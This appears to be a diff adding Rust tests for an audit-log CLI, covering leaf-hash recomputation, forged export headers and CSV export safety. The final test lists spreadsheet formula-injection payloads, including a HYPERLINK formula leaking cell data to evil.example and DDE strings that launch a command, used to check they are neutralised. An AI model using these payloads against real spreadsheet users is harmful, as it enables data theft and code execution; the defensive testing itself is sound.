@@ -1063,3 +1063,238 @@ fn show_of_a_changed_entry_fails_in_both_forms() {
         json.stderr
     );
 }
+
+/// An auditor recomputes a leaf from `audit show --json` with generic tools: the hashed bytes
+/// are in `leaf_bytes` (base64), and SHA-256 of 0x00 then those bytes is the leaf. Text with
+/// U+2028, U+2029 and DEL: smv's JSON printer writes those as `\uXXXX` escapes (so a terminal
+/// shows them), which are not the bytes that were hashed; `leaf_bytes` are.
+#[test]
+fn audit_show_json_carries_the_exact_hashed_bytes() {
+    use base64::Engine as _;
+    use sha2::Digest as _;
+    let s = Sandbox::new();
+    s.init();
+    s.smv(&["account", "add", "demo", "--provider", "outbox"])
+        .ok();
+    let text = "line\u{2028}para\u{2029}del\u{7f}end";
+    s.smv(&["grant", "alice", "demo", "post"]).ok();
+    s.smv(&["post", "demo", text]).ok();
+    let log = s
+        .smv(&["--json", "audit", "log", "--action", "post"])
+        .ok()
+        .json();
+    let seq = log.as_array().unwrap().last().unwrap()["seq"]
+        .as_u64()
+        .unwrap()
+        .to_string();
+    let run = s.smv(&["audit", "show", &seq, "--json"]).ok();
+    // The printed JSON escapes them (what a terminal shows), so its bytes are not the hashed ones.
+    assert!(run.stdout.contains("\\u2028"), "{}", run.stdout);
+    let shown = run.json();
+    let bytes = base64::engine::general_purpose::STANDARD
+        .decode(shown["leaf_bytes"].as_str().expect("leaf_bytes is there"))
+        .unwrap();
+    let mut hashed = vec![0u8];
+    hashed.extend_from_slice(&bytes);
+    let leaf: String = sha2::Sha256::digest(&hashed)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    assert_eq!(shown["leaf"].as_str().unwrap(), leaf);
+    // The exact characters are in the hashed bytes, unescaped.
+    let body = String::from_utf8(bytes.clone()).unwrap();
+    assert!(body.contains(text), "{body:?}");
+    // And the readable form is the same data.
+    let parsed: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
+    assert_eq!(parsed, shown["entry"]);
+    // With nothing but coreutils, where they are: base64 -d, then sha256sum of 0x00 + bytes.
+    let b64 = shown["leaf_bytes"].as_str().unwrap();
+    let sh = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(r#"{ printf '\000'; printf '%s' "$B64" | base64 -d; } | sha256sum"#)
+        .env("B64", b64)
+        .output();
+    match sh {
+        Ok(o) if o.status.success() => {
+            let out = String::from_utf8_lossy(&o.stdout);
+            assert_eq!(out.split_whitespace().next(), Some(leaf.as_str()), "{out}");
+        }
+        _ => eprintln!("skipped the coreutils check: no sh, base64 or sha256sum here"),
+    }
+}
+
+/// An export's `selection` header is checked against its entries: a header edited to claim
+/// another account (or member, action or time) over this account's entries does not verify.
+#[test]
+fn a_selection_header_that_claims_another_selection_does_not_verify() {
+    let dir = tempfile::tempdir().unwrap();
+    let (log, key) = random_log(30, dir.path());
+    let selection = audit::Filter {
+        account: Some("acc-0".into()),
+        ..Default::default()
+    };
+    let text = export(&log, &key, &selection);
+    assert!(verify_text(&text, &key, None).is_ok());
+    let claims = [
+        (
+            "another account",
+            "\"account\":\"acc-0\"",
+            "\"account\":\"acc-1\"",
+        ),
+        (
+            "an action the entries do not all have",
+            "\"action\":null",
+            "\"action\":\"grant\"",
+        ),
+        (
+            "a member who is not every entry's actor",
+            "\"member\":null",
+            "\"member\":\"joe\"",
+        ),
+        (
+            "a time range after the entries",
+            "\"since\":null",
+            "\"since\":\"2999-01-01T00:00:00.000000Z\"",
+        ),
+    ];
+    for (what, from, to) in claims {
+        let forged = edit_line(&text, 0, |h| h.replace(from, to));
+        assert_ne!(forged, text, "{what}: the header was edited");
+        match verify_text(&forged, &key, None) {
+            Err(audit::export::Rejected::Failure(f)) => {
+                assert!(f.reason.contains("selection"), "{what}: {}", f.reason)
+            }
+            other => panic!("{what}: a forged selection header verified: {other:?}"),
+        }
+    }
+    // The report names the selection it checked.
+    let r = verify_text(&text, &key, None).unwrap();
+    assert_eq!(
+        r.selection.and_then(|f| f.account).as_deref(),
+        Some("acc-0")
+    );
+}
+
+/// The same through the CLI: `smv audit export --account demo`, its header edited to say
+/// `x-main`, fails `smv audit verify --log … --pubkey …` with exit 10.
+#[test]
+fn an_exported_selection_relabelled_as_another_account_fails_verify() {
+    let s = Sandbox::new();
+    s.init();
+    for a in ["demo", "x-main"] {
+        s.smv(&["account", "add", a, "--provider", "outbox"]).ok();
+        s.smv(&["grant", "alice", a, "post"]).ok();
+    }
+    s.smv(&["post", "demo", "hello from demo"]).ok();
+    let export = s.home().join("demo.jsonl");
+    let key = s.home().join("audit.pub");
+    std::fs::write(&key, s.smv(&["audit", "pubkey"]).ok().stdout).unwrap();
+    s.smv(&[
+        "audit",
+        "export",
+        "--format",
+        "jsonl",
+        "--account",
+        "demo",
+        "--out",
+        export.to_str().unwrap(),
+    ])
+    .ok();
+    let args = [
+        "audit",
+        "verify",
+        "--log",
+        export.to_str().unwrap(),
+        "--pubkey",
+        key.to_str().unwrap(),
+    ];
+    s.smv(&args).ok().stdout_has("selection: account demo");
+    let text = std::fs::read_to_string(&export).unwrap();
+    let forged = edit_line(&text, 0, |h| {
+        h.replace("\"account\":\"demo\"", "\"account\":\"x-main\"")
+    });
+    assert_ne!(forged, text);
+    std::fs::write(&export, forged).unwrap();
+    s.smv(&args).fails(10).stderr_has("selection");
+}
+
+/// A tiny CSV reader (RFC 4180 quoting) for the tests: the cells of each record.
+fn csv_records(text: &str) -> Vec<Vec<String>> {
+    let mut records = Vec::new();
+    let (mut record, mut cell) = (Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => record.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                record.push(std::mem::take(&mut cell));
+                records.push(std::mem::take(&mut record));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    records
+}
+
+/// CSV cells that a spreadsheet would run as a formula (`= + - @`, or after a tab or CR) are
+/// written as text with a leading `'`; the JSON-lines export of the same entries keeps their
+/// exact bytes (and verifies).
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_and_jsonl_stays_exact() {
+    let dir = tempfile::tempdir().unwrap();
+    let key = LogKey::from_seed("smv-audit/csv", &[5; 32]).unwrap();
+    let mut log = AuditLog::create(
+        &dir.path().join("log.sqlite"),
+        LogKey::from_seed("smv-audit/csv", &[5; 32]).unwrap(),
+    )
+    .unwrap();
+    let dangerous = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for (i, reason) in dangerous.iter().enumerate() {
+        let mut r = record(i, Outcome::Failed, &format!("c{i}"));
+        r.reason = Some(reason.to_string());
+        r.actor = reason.to_string();
+        log.append(&r).unwrap();
+    }
+    let mut out = Vec::new();
+    audit::export::write_csv(&log, &Default::default(), &mut out, &mut |_, _| {}).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    let records = csv_records(&text);
+    assert_eq!(records.len(), dangerous.len() + 1, "{text}");
+    for (row, reason) in records[1..].iter().zip(dangerous) {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet runs: {cell:?} in {row:?}"
+            );
+        }
+        // Nothing is lost: the cell is the text after one `'`.
+        assert_eq!(row[2], format!("'{reason}"), "actor");
+        assert_eq!(row[7], format!("'{reason}"), "reason");
+    }
+    // Cells that are fine stay as they are (no `'` before a time or a number).
+    assert!(!records[1][0].starts_with('\''));
+    assert!(!records[1][1].starts_with('\''));
+    // The JSON-lines export keeps the exact text, and verifies.
+    let jsonl = export(&log, &key, &Default::default());
+    for reason in dangerous {
+        assert!(
+            jsonl.contains(&serde_json::to_string(reason).unwrap()),
+            "{reason:?}"
+        );
+    }
+    assert!(verify_text(&jsonl, &key, None).is_ok());
+}
